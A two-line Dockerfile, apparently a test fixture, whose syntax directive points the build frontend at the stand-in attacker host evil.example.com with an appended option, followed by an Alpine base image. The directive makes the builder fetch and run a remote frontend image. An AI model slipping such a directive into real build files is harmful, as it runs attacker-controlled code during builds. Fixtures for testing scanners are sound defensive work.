# syntax=evil.example.com/frontend:1 --some-option
FROM alpine:3.19
